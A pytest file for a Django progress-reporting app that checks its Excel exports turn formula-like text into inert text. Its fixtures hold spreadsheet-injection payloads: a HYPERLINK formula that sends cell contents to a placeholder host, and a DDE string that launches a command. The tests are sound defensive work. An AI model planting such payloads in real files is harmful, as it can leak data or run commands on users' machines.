"""Every .xlsx the app writes is inert: a cell whose text begins like a formula (= + - @, a tab
or a carriage return) comes back as text, the same words, never a formula."""

from __future__ import annotations

import datetime
import io
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

import minsheng
from minsheng.progress import services
from minsheng.progress.models import Report
from minsheng.progress.workbook import COL_ACTUAL, COL_NARRATIVE, COL_STATUS, COL_TASK, HEADER_ROW
from minsheng.voting.roster import RosterResult

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://x"&A1,"点我")'
NARRATIVE = "@SUM(1+1)*cmd|' /C calc'!A0"
OTHERS = ["+1+1", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.fixture(autouse=True)
def _april() -> Any:
    with time_machine.travel(datetime.datetime(2026, 4, 10, 10, tzinfo=ZoneInfo("Asia/Shanghai")), tick=False):
        yield


@pytest.fixture
def evil_task(parking_task: Any, member: Any, office: Any) -> Any:
    """推进停车便利化 whose content is a formula, with an approved report whose narrative is another."""
    parking_task.content = EVIL
    parking_task.save()
    target = parking_task.indicators.get()
    filing = services.Filing(datetime.date(2026, 3, 31), "in_progress", NARRATIVE, {target.pk: Decimal(303)})
    report = services.file_report(user=member("城管局"), task=parking_task, filing=filing)
    services.review_report(user=office, report=report, approve=True)
    return parking_task


def _texts(data: bytes) -> dict[str, Any]:
    """Every text cell of every sheet, by its text."""
    book = load_workbook(io.BytesIO(data))
    return {
        cell.value: cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def _assert_inert(data: bytes, *texts: str) -> None:
    cells = _texts(data)
    for text in texts:
        assert text in cells, text
        assert cells[text].data_type == "s", text
    assert not [c for c in cells.values() if c.data_type == "f"]


def test_the_task_table_public_sheet_and_targets_sheet_write_formulas_as_text(
    evil_task: Any, office: Any, client: Client
) -> None:
    plan = evil_task.project.plan
    public = Client().get(reverse("reports:public_xlsx", args=[plan.pk]))  # anonymous
    assert public.status_code == 200
    _assert_inert(public.content, EVIL, NARRATIVE)
    client.force_login(office)
    table = client.get(reverse("reports:task_table", args=[plan.pk, "xlsx"]))
    assert table.status_code == 200
    _assert_inert(table.content, EVIL)
    targets = client.get(reverse("indicators:plan_targets", args=[plan.pk]), {"format": "xlsx"})
    assert targets.status_code == 200
    _assert_inert(targets.content, EVIL)


def test_the_unit_template_writes_formulas_as_text_and_still_uploads(
    evil_task: Any, member: Any, client: Client
) -> None:
    plan, unit = evil_task.project.plan, evil_task.units.get()
    client.force_login(member("城管局", "reporter-2"))
    response = client.get(reverse("progress:template", args=[plan.pk, unit.pk]))
    _assert_inert(response.content, EVIL)
    book = load_workbook(io.BytesIO(response.content))
    sheet = book["进度报送"]
    row = next(r for r in range(HEADER_ROW + 1, sheet.max_row + 1) if sheet.cell(r, COL_TASK).value == evil_task.pk)
    sheet.cell(row, COL_ACTUAL).value, sheet.cell(row, COL_STATUS).value = 500, "推进中"
    sheet.cell(row, COL_NARRATIVE).value = "一季度推进"  # a unit's words are required (filing_rules)
    out = io.BytesIO()
    book.save(out)
    upload = SimpleUploadedFile("报送表.xlsx", out.getvalue())
    preview = client.post(reverse("progress:workbook", args=[plan.pk]), {"file": upload}).content.decode()
    assert "确认报送 1 项" in preview
    key = preview.split('name="key" value="')[1].split('"')[0]
    client.post(reverse("progress:workbook_confirm", args=[plan.pk]), {"key": key})
    latest = Report.objects.filter(task=evil_task).order_by("-pk").first()
    assert latest is not None and latest.figures.get().actual == 500


def test_the_deputies_credentials_sheet_writes_formulas_as_text() -> None:
    names = [EVIL, *OTHERS]
    result = RosterResult(created=[(name, f"1700{i}", "pass") for i, name in enumerate(names)])
    _assert_inert(result.credentials_xlsx(), *names)


def test_every_workbook_the_app_makes_is_saved_through_xlsx_bytes() -> None:
    """A new writer that saves its own Workbook() would skip the defusing."""
    root = Path(minsheng.__file__).parent
    writers = [p for p in root.rglob("*.py") if "Workbook()" in p.read_text(encoding="utf-8")]
    assert len(writers) >= 5
    for path in writers:
        source = path.read_text(encoding="utf-8")
        assert "xlsx_bytes(" in source and "book.save(" not in source, path.relative_to(root)
